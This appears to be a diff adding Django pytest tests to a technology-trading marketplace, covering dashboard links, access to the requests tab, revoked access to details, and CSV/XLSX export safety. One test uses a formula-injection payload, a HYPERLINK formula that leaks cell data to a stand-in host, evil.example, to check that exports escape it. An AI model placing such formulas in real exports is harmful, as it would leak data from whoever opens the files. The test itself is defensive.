@@ -485,3 +485,83 @@ def test_an_approval_counts_only_with_the_requesters_acceptance_of_the_owners_nd
         )
 
     assert not can_view_listing_details(market["approved"], market["tech"])
+
+
+@pytest.mark.parametrize("role", ["staff", "operator", "corporate", "founder"])
+def test_every_link_on_my_tech_trade_opens(login, market, role):
+    """The dashboard linked institution staff and city operators to "Our NDA" and the import,
+    pages only owners of needs or technologies have (404)."""
+    from django.urls import resolve
+
+    client = login(role)
+    page = client.get(reverse("techtrade:home")).content.decode()
+
+    links = set(re.findall(r'href="(/techtrade/[^"#?]*)', page))
+    assert links
+    broken = []
+    for link in sorted(links):
+        match = resolve(link)
+        if match.url_name in ("deal-create",):
+            continue
+        if client.get(link).status_code != 200:
+            broken.append(link)
+    assert broken == []
+
+
+def test_the_detail_requests_tab_opens_for_a_user_without_an_organization(client, make_user):
+    client.force_login(make_user("no_org"))
+
+    response = client.get(reverse("techtrade:request-list"))
+
+    assert response.status_code == 200
+    assert not response.context["incoming"].object_list
+
+
+def test_funnel_exports_never_turn_a_title_into_a_formula(client, market):
+    """Item titles are user input and flow into the deal titles of the funnel export; an
+    operator opening the file must not run "=HYPERLINK(…)" (CSV/formula injection)."""
+    import csv
+    import io
+
+    import openpyxl
+
+    from sadari.techtrade.deals import deal_open
+    from sadari.techtrade.services import technology_create
+
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    tech = technology_create(owner=market["startup"], by=market["founder"], title_en=evil)
+    deal_open(buyer=market["corp"], seller=market["startup"], technology=tech, by=None)
+    client.force_login(market["operator"])
+
+    text = client.get(reverse("techtrade:funnel-csv")).content.decode("utf-8-sig")
+    book = openpyxl.load_workbook(io.BytesIO(client.get(reverse("techtrade:funnel-xlsx")).content))
+
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    assert "'" + evil in cells
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+    xlsx_cells = [c for row in book.worksheets[1].iter_rows() for c in row]
+    titled = [c for c in xlsx_cells if c.value == evil]
+    assert titled
+    assert all(c.data_type == "s" for c in titled)
+
+
+def test_a_revoked_requester_is_told_and_loses_the_details(client, market):
+    from django.utils.translation import gettext
+
+    from sadari.techtrade.services import detail_request_decide
+    from tests.techtrade.conftest import TECH_SECRET
+
+    request = DetailRequest.objects.get(
+        technology=market["tech"], requester=market["approved_corp"]
+    )
+    detail_request_decide(request=request, by=market["founder"], approve=False)
+    client.force_login(market["approved"])
+
+    page = client.get(market["tech"].get_absolute_url()).content.decode()
+    api = client.get(f"/api/v1/techtrade/technologies/{market['tech'].pk}").json()
+
+    assert TECH_SECRET not in page
+    assert "details_en" not in api
+    assert api["can_view_details"] is False
+    assert gettext("The owner revoked your organization's access to the details.") in page
+    assert reverse("techtrade:technology-request", args=[market["tech"].pk]) in page
